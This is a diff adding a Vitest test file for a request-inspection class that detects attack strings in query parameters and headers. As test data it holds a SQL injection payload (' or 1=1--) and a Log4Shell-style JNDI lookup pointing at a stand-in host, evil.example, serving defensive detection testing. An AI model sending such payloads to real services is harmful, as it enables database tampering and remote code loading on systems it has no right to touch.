@@ -1,0 +1,33 @@
+import { describe, expect, it } from 'vitest'
+import { defaultDecodeLimits } from '../content-limits.ts'
+import { MessageInspector } from './message-inspector.ts'
+
+const message = (headers: [string, string][], query: [string, string][] = []) => ({
+  path: '/search',
+  query,
+  headers,
+  content: { kind: 'empty' } as const,
+})
+
+describe('MessageInspector', () => {
+  it('finds what the plain inspection finds, however often the same headers came before', () => {
+    const inspector = new MessageInspector(defaultDecodeLimits)
+    const agent: [string, string] = ['user-agent', 'shop-app/7.2 (Android 16; Pixel 9)']
+    for (let round = 0; round < 3; round += 1) {
+      expect(inspector.inspect(message([agent]))).toBeUndefined()
+      expect(inspector.inspect(message([agent], [['q', "' or 1=1--"]]))).toMatchObject({ at: 'query:q' })
+      expect(inspector.inspect(message([agent, ['x-name', '${jndi:ldap://evil.example/a}']]))).toMatchObject({
+        kind: 'jndi',
+        at: 'header:x-name',
+      })
+    }
+    expect(inspector.size).toBe(1)
+  })
+
+  it('does not take a header for clean because a worse hit stood beside it', () => {
+    const inspector = new MessageInspector(defaultDecodeLimits)
+    const bad: [string, string] = ['referer', "https://a.example/?id=' or 1=1--"]
+    inspector.inspect(message([bad], [['q', '${jndi:ldap://evil.example/a}']]))
+    expect(inspector.inspect(message([bad]))).toMatchObject({ at: 'header:referer' })
+  })
+})
